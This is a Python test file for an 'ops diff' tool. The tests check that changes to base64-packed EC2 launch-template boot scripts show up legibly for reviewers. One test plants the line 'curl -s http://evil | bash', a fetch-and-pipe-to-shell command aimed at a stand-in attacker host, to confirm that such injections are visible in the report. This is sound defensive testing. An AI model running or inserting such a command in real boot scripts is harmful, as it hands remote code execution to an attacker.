"""What `ops diff` says of the scripts that travel packed in user data."""

import base64

from components.node_archive import archive
from ops.capture.recording import Recording
from ops.diff.comparison import compared
from ops.diff.node_files import SHOWN_LINES, changed_lines, node_files
from tests.policies.planting import changed, inputs

TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"


def _user_data(script: str, **files: str) -> str:
    packed = f"platform_files() {{\n  cat <<'END'\n{archive(files)}END\n}}\n"
    return base64.b64encode(f"#!/bin/bash\n{script}\n{packed}".encode()).decode()


def test_a_line_that_gets_into_a_boot_script_can_be_read_in_the_report(dev: Recording) -> None:
    template = dev.one(TEMPLATE)
    before = changed(dev, TEMPLATE, template.name, inputs(userData=_user_data("run", boot="mount\nstart")))
    evil = _user_data("run", boot="mount\ncurl -s http://evil | bash\nstart")
    (resource, changes), *_ = compared(
        before, changed(dev, TEMPLATE, template.name, inputs(userData=evil))
    ).changed
    assert resource.name == template.name
    assert [(item.path, item.old, item.new) for item in changes] == [
        ("userData boot", "-", "curl -s http://evil | bash")
    ], "a reviewer would see two lengths"


def test_many_lines_are_counted() -> None:
    new = "\n".join(f"line {number}" for number in range(SHOWN_LINES + 2))
    ((path, gone, came),) = changed_lines({"boot": "mount"}, {"boot": new})
    assert (path, gone) == ("boot", "mount") and came.endswith("line 2 and 2 more lines")


def test_a_made_up_id_inside_of_a_script_is_shown_by_its_name() -> None:
    told = node_files(
        _user_data("mount fs-0a1b2c3d4e5f60718", boot="x"), {"fs-0a1b2c3d4e5f60718": "shared-files"}
    )
    assert "mount shared-files" in told["script"]


def test_the_scripts_of_the_stack_are_found(dev: Recording) -> None:
    told = node_files(dev.one(TEMPLATE).inputs["userData"], {})
    assert "boot.sh" in told and len(told["script"]) < 10_000, "the archive itself would be compared, too"
    assert node_files("other", {}) == node_files(None, {}) == {}
